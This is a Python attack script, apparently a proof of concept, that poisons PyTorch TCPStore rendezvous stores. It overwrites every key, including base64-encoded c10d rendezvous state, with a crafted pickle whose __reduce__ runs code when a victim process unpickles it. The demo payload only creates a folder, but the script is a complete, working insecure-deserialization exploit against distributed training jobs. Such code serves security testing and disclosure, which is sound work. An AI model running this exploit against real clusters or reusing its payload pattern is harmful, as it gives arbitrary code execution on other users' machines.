"""Another user of the network: puts code into every key of every TCPStore that answers.

Run: ``python rendezvous_attacker.py FOLDER PORT...``. The code, a pickle, creates FOLDER in the process that loads it.
The script prints as JSON how many keys each store had.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import subprocess
import sys
from datetime import timedelta

from torch.distributed import TCPStore  # type: ignore[attr-defined]

STORE_S = 20.0
# The script attacks this one port, in a process of its own.
ONE = "--one"


class Payload:
    """An object that creates a folder when it is unpickled."""

    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.folder,)


def attack(folder: str, port: int) -> int:
    """Set every key of the store at ``port``, and return the number of keys."""
    store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=5))
    keys = store.list_keys()
    code = pickle.dumps(Payload(folder))
    for key in {*keys, "torch.rendezvous.none"}:
        # torch's c10d rendezvous writes its pickled state in base64.
        is_state = key.startswith("torch.rendezvous.") and "/" not in key
        store.set(key, base64.b64encode(code) if is_state else code)
    return len(keys)


def main() -> None:
    """Attack the ports one by one: a program that is no store would hang the client of a store."""
    folder, ports = sys.argv[1], sys.argv[2:]
    if ports[0] == ONE:
        print(attack(folder, int(ports[1])))
        return
    counts = {}
    for port in ports:
        command = [sys.executable, __file__, folder, ONE, port]
        try:
            ended = subprocess.run(command, capture_output=True, text=True, timeout=STORE_S)
        except subprocess.TimeoutExpired:
            continue
        if ended.returncode == 0:
            counts[port] = int(ended.stdout)
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
